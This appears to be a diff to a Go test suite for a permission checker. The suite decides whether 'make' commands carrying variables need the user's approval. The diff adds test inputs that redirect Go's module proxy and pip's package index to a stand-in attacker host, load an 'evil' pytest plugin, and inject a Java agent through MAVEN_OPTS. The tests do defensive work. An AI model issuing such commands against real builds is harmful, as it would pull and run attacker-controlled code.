@@ -236,6 +236,17 @@ func TestMakeVariablesUnreadUsesAsk(t *testing.T) {
 		{"exported as a loading variable", map[string]string{"Makefile": "LD_PRELOAD = $(NAME)\n.EXPORT_ALL_VARIABLES:\nall:\n\t@echo\n"}, "make NAME=x"},
 		{"a glued sub-make folder", map[string]string{"Makefile": "all:\n\t$(MAKE) -C$(NAME) all\n"}, "make NAME=x"},
 		{"a use in an included makefile", map[string]string{"Makefile": "include rules.mk\nall:\n\t@echo\n", "rules.mk": "x:\n\t$(NAME) go\n"}, "make NAME=x"},
+		// make exports a line's variables to every recipe: one no makefile
+		// uses reaches only the programs the recipes run, which may read it
+		// (go's proxy, pip's index, pytest's plugins).
+		{"used nowhere", map[string]string{"Makefile": "all:\n\t@echo\n"}, "make NAME=x"},
+		{"a proxy go reads", map[string]string{"Makefile": "test:\n\tgo test ./...\n"}, "make test GOPROXY=http://evil.example"},
+		{"a proxy go reads, no URL", map[string]string{"Makefile": "test:\n\tgo test ./...\n"}, "make test GONOSUMDB=example.com"},
+		{"an index pip reads", map[string]string{"Makefile": "install:\n\tpip install -r requirements.txt\n"}, "make install PIP_INDEX_URL=http://evil.example/simple"},
+		{"plugins pytest loads", map[string]string{"Makefile": "test:\n\tpytest\n"}, "make test PYTEST_PLUGINS=evil"},
+		{"JVM options", map[string]string{"Makefile": "test:\n\tmvn test\n"}, "make test MAVEN_OPTS=-javaagent:x.jar"},
+		{"only in a comment", map[string]string{"Makefile": "# GOPROXY is the user's\ntest:\n\tgo test ./...\n"}, "make test GOPROXY=direct"},
+		{"a URL as an argument", map[string]string{"Makefile": "INDEX ?= https://pypi.org/simple\ninstall:\n\tpip install --index-url $(INDEX) -r requirements.txt\n"}, "make install INDEX=http://evil.example/simple"},
 	} {
 		p := makeProject(t, "make", tc.files)
 		if v := NewChecker([]string{"make"}).CheckIn(tc.line, p); v.Approved {
@@ -272,7 +283,6 @@ func TestMakeVariablesSafeUsesPass(t *testing.T) {
 		{"handed to a sub-make as itself", map[string]string{"Makefile": "all:\n\t$(MAKE) -C sub NAME=\"$(NAME)\" all\n", "sub/Makefile": "all:\n\t@echo $(NAME)\n"}, "make NAME=x"},
 		{"only compared", map[string]string{"Makefile": "ifeq ($(NAME),x)\nY = 1\nendif\nall:\n\t@echo $(if $(NAME),on,off)\n"}, "make NAME=x"},
 		{"through a variable used as an argument", map[string]string{"Makefile": "OPTS = --name $(NAME)\nall:\n\tgo test $(OPTS)\n"}, "make NAME=x"},
-		{"used nowhere", map[string]string{"Makefile": "all:\n\t@echo\n"}, "make NAME=x"},
 	} {
 		p := makeProject(t, "make", tc.files)
 		if v := NewChecker([]string{"make"}).CheckIn(tc.line, p); !v.Approved {
